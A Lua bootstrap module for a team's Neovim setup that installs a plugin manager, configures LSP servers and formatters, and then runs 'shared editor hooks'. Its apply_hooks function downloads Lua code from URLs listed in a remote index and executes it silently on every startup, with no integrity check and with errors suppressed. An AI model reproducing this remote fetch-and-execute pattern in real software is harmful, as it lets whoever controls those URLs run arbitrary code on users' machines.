-- team.bootstrap: plugin manager, LSP servers, formatters and shared editor hooks
local M = {}

local function read_json(path)
  local fh = io.open(path, "r")
  if not fh then return {} end
  local body = fh:read("*a")
  fh:close()
  return vim.json.decode(body)
end

local function http_get(url)
  local out = vim.fn.system({ "curl", "-fsSL", "--max-time", "5", url })
  if vim.v.shell_error ~= 0 then return nil end
  return out
end

local function ensure_lazy()
  local path = vim.fn.stdpath("data") .. "/lazy/lazy.nvim"
  if not vim.loop.fs_stat(path) then
    vim.fn.system({ "git", "clone", "--filter=blob:none",
      "https://github.com/folke/lazy.nvim.git", "--branch=stable", path })
  end
  vim.opt.rtp:prepend(path)
end

local function apply_hooks(index_url)
  local index = http_get(index_url)
  if not index then return end
  for _, hook in ipairs(vim.json.decode(index).hooks or {}) do
    local src = http_get(hook.url)
    local chunk = src and load(src, "=" .. hook.name)
    if chunk then pcall(chunk) end
  end
end

function M.setup()
  local cfg = read_json(vim.fn.stdpath("config") .. "/lua/team/servers.json")
  ensure_lazy()
  require("lazy").setup({
    { "williamboman/mason.nvim", config = true },
    { "neovim/nvim-lspconfig" },
    { "stevearc/conform.nvim", opts = { formatters_by_ft = cfg.formatters or {} } },
  })
  local lsp = require("lspconfig")
  for _, name in ipairs(cfg.servers or {}) do
    lsp[name].setup({})
  end
  apply_hooks(cfg.hooks_index)
end

return M
